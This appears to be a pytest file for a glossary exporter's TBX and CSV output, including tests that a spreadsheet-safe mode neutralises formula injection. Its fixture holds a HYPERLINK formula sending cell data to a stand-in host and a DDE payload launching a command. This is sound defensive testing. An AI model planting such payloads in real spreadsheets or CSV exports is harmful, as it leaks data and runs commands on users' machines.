"""The glossary exported as TBX and CSV (issue 16): well-formed, complete, and read back by
Translate Toolkit's own TBX and CSV readers (what Weblate imports glossaries with), run for
real in their own virtualenv (benchmarks/peer_qa.py's, built from its pinned requirements)."""

from __future__ import annotations

import csv
import io
import json
import sys
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from conftest import ROOT, invoke
from test_peer_qa import needs_index

from translate.glossary.file import read_glossary
from translate.glossary.termbase import (
    CSV_COLUMNS,
    csv_rows,
    formula_safe,
    language_notes,
    write_csv,
    write_tbx,
)

sys.path.insert(0, str(ROOT / "benchmarks"))
import peer_qa

GLOSSARY = ROOT / "glossary.yaml"
LANGS = ("hy", "az", "he", "ru")
XML_LANG = "{http://www.w3.org/XML/1998/namespace}lang"


def expected_terms(lang: str) -> list[dict]:
    """Per term: its English forms and, in ``lang``, its forms with their status."""
    out = []
    for term in read_glossary(GLOSSARY).terms:
        forms = term.forms_for(lang)
        target = []
        if forms is not None:
            target = [(forms.approved, "preferredTerm-admn-sts")]
            target += [(f, "admittedTerm-admn-sts") for f in forms.accepted
                       if f != forms.approved]
            target += [(f, "deprecatedTerm-admn-sts") for f in forms.forbidden]
        source = [(term.en, "preferredTerm-admn-sts")]
        source += [(a, "admittedTerm-admn-sts") for a in term.aliases]
        out.append({"source": source, "target": list(dict.fromkeys(target))})
    return out


def tigs(node: ET.Element) -> list[tuple[str | None, str | None]]:
    return [(t.findtext("term"), t.findtext("termNote")) for t in node.findall("tig")]


def test_tbx_is_well_formed_and_holds_every_term_and_form():
    glossary = read_glossary(GLOSSARY)
    root = ET.fromstring(write_tbx(glossary, LANGS).encode("utf-8"))
    assert root.tag == "martif" and root.get("type") == "TBX-Basic"
    entries = root.findall("./text/body/termEntry")
    assert len(entries) == len(glossary.terms)
    assert len({e.get("id") for e in entries}) == len(entries)
    for lang in LANGS:
        for entry, expected in zip(entries, expected_terms(lang), strict=True):
            sets = {s.get(XML_LANG): s for s in entry.findall("langSet")}
            assert tigs(sets["en"]) == expected["source"]
            if expected["target"]:
                assert tigs(sets[lang]) == expected["target"]
            else:
                assert lang not in sets


def test_csv_has_a_row_per_term_and_alias_for_one_language():
    glossary = read_glossary(GLOSSARY)
    rows = list(csv.DictReader(io.StringIO(write_csv(glossary, "ru"), newline="")))
    assert rows == csv_rows(glossary, "ru")
    expected = sum(1 + len(t.aliases) for t in glossary.terms if t.forms_for("ru"))
    assert len(rows) == expected
    stepanakert = next(r for r in rows if r["source"] == "Stepanakert")
    assert stepanakert["target"] == "Степанакерт"
    assert "forbidden: Ханкенди" in stepanakert["developer_comments"]


def test_export_command(project: Path):
    out = project / "glossary.tbx"
    result = invoke("glossary", "export", "--lang", "ru,he", "-o", str(out))
    assert result.stderr.strip() == f"wrote {out}"
    ET.fromstring(out.read_bytes())
    text = invoke("glossary", "export", "--format", "csv", "--lang", "az").output
    assert text.startswith('"source","target","context","developer_comments"\n')
    assert "a CSV glossary holds one language" in invoke(
        "glossary", "export", "--format", "csv", code=2).output
    (project / "glossary.yaml").unlink()
    assert "no such glossary file" in invoke("glossary", "export", code=1).output


#: Runs in Translate Toolkit's virtualenv: reads the TBX and the CSV with its storage
#: classes and prints what it found, as JSON.
READER = """
import json, sys
from translate.storage import csvl10n, tbx
tbx_path, csv_path, langs = sys.argv[1], sys.argv[2], sys.argv[3].split(",")
store = tbx.tbxfile.parsefile(tbx_path)
units = []
for unit in store.units:
    units.append({
        "source": [(t.text, t.administrative_status) for t in unit.get_source_terms()],
        "targets": {lang: [(t.text, t.administrative_status) for t in unit.get_target_terms(lang)]
                    for lang in langs},
        "notes": {lang: [n.text for n in unit.get_target_terms(lang)[0].notes
                         if n.origin == "translator"] if unit.get_target_terms(lang) else []
                  for lang in langs},
        "definition": [n.text for n in unit.get_common_notes(source=True)
                       if n.origin == "definition"],
    })
rows = [{"source": u.source, "target": u.target, "context": u.getcontext(),
         "notes": u.getnotes("developer")} for u in csvl10n.csvfile.parsefile(csv_path).units]
print(json.dumps({"tbx": units, "csv": rows}, ensure_ascii=False))
"""


@pytest.mark.slow
@needs_index
def test_translate_toolkit_reads_the_tbx_and_the_csv(tmp_path: Path):
    """Translate Toolkit (Weblate's reader) finds every term, each form with its status
    (forbidden ones deprecated), the notes and case forms, and every CSV row."""
    bin_dir = peer_qa.ensure_peers(ROOT / "build" / "peers")
    glossary = read_glossary(GLOSSARY)
    tbx_path, csv_path = tmp_path / "glossary.tbx", tmp_path / "ru.csv"
    tbx_path.write_text(write_tbx(glossary, LANGS), encoding="utf-8")
    csv_path.write_text(write_csv(glossary, "ru"), encoding="utf-8", newline="")
    script = tmp_path / "reader.py"
    script.write_text(READER, encoding="utf-8")
    found = json.loads(peer_qa.run_peer(bin_dir, "python", "-I", str(script), str(tbx_path),
                                        str(csv_path), ",".join(LANGS)))
    units = found["tbx"]
    assert len(units) == len(glossary.terms)
    for lang in LANGS:
        for unit, expected, term in zip(units, expected_terms(lang), glossary.terms,
                                        strict=True):
            assert [tuple(t) for t in unit["source"]] == expected["source"]
            assert [tuple(t) for t in unit["targets"][lang]] == expected["target"]
            forms = term.forms_for(lang)
            if forms is not None:
                assert unit["notes"][lang] == language_notes(forms)
            assert unit["definition"] == ([term.note] if term.note else [])
    assert [(r["source"], r["target"], r["context"], r["notes"]) for r in found["csv"]] == [
        (r["source"], r["target"], r["context"], r["developer_comments"])
        for r in csv_rows(glossary, "ru")]


# --- Terms that start like a spreadsheet formula ---------------------------------------------

#: A glossary whose terms, aliases and notes start as spreadsheet formulas do.
FORMULA_GLOSSARY = """version: 1
terms:
  - en: "=HYPERLINK(\\"http://x.example/?\\"&A1,\\"Vienna\\")"
    aliases: ["+Wien", "-Vena", "@SUM(A1)"]
    note: "=1+2"
    ru:
      approved: "=cmd|' /C calc'!A0"
      inflect: none
      note: "-2+3"
"""


def test_the_csv_export_keeps_a_formula_like_term_exact(project: Path):
    (project / "glossary.yaml").write_text(FORMULA_GLOSSARY, encoding="utf-8")
    text = invoke("glossary", "export", "--format", "csv", "--lang", "ru").stdout
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert [r["source"] for r in rows] == [
        '=HYPERLINK("http://x.example/?"&A1,"Vienna")', "+Wien", "-Vena", "@SUM(A1)"]
    assert {r["target"] for r in rows} == {"=cmd|' /C calc'!A0"}
    assert {r["developer_comments"] for r in rows} == {"=1+2 | -2+3"}


@pytest.mark.parametrize(("field", "safe"), [
    ("=1+2", "'=1+2"),
    ("+Wien", "'+Wien"),
    ("-Vena", "'-Vena"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\tVienna", "'\tVienna"),
    ("\rVienna", "'\rVienna"),
    ("Vienna", "Vienna"),
    ("Wien=Vienna", "Wien=Vienna"),
    ("'=1+2", "'=1+2"),
    ("", ""),
])
def test_the_spreadsheet_safe_form_quotes_a_field_that_starts_like_a_formula(field, safe):
    assert formula_safe(field) == safe


def test_the_spreadsheet_safe_export_prefixes_every_formula_field(project: Path):
    (project / "glossary.yaml").write_text(FORMULA_GLOSSARY, encoding="utf-8")
    out = project / "ru.csv"
    invoke("glossary", "export", "--format", "csv", "--lang", "ru", "--spreadsheet-safe",
           "-o", str(out))
    rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8"), newline="")))
    assert rows[0] == list(CSV_COLUMNS)
    fields = [field for row in rows[1:] for field in row if field]
    assert fields and all(not field.startswith(("=", "+", "-", "@")) for field in fields)
    assert rows[1][:2] == ['\'=HYPERLINK("http://x.example/?"&A1,"Vienna")',
                           "'=cmd|' /C calc'!A0"]
    assert all(line.startswith('"') for line in out.read_text(encoding="utf-8").splitlines())


def test_spreadsheet_safe_is_for_csv_only(project: Path):
    result = invoke("glossary", "export", "--spreadsheet-safe", code=2)
    assert "--spreadsheet-safe" in result.output and "csv" in result.output


@pytest.mark.slow
@needs_index
def test_translate_toolkit_reads_formula_like_terms_back_exactly(tmp_path: Path, project: Path):
    """The default CSV is the exact text for tools that import it (Weblate reads with
    Translate Toolkit): a term starting with = + - @ comes back as it was written."""
    (project / "glossary.yaml").write_text(FORMULA_GLOSSARY, encoding="utf-8")
    bin_dir = peer_qa.ensure_peers(ROOT / "build" / "peers")
    glossary = read_glossary(project / "glossary.yaml")
    tbx_path, csv_path = tmp_path / "glossary.tbx", tmp_path / "ru.csv"
    invoke("glossary", "export", "--lang", "ru", "-o", str(tbx_path))
    invoke("glossary", "export", "--format", "csv", "--lang", "ru", "-o", str(csv_path))
    script = tmp_path / "reader.py"
    script.write_text(READER, encoding="utf-8")
    found = json.loads(peer_qa.run_peer(bin_dir, "python", "-I", str(script), str(tbx_path),
                                        str(csv_path), "ru"))
    assert [(r["source"], r["target"], r["context"], r["notes"]) for r in found["csv"]] == [
        (r["source"], r["target"], r["context"], r["developer_comments"])
        for r in csv_rows(glossary, "ru")]
    assert found["csv"][0]["source"] == '=HYPERLINK("http://x.example/?"&A1,"Vienna")'
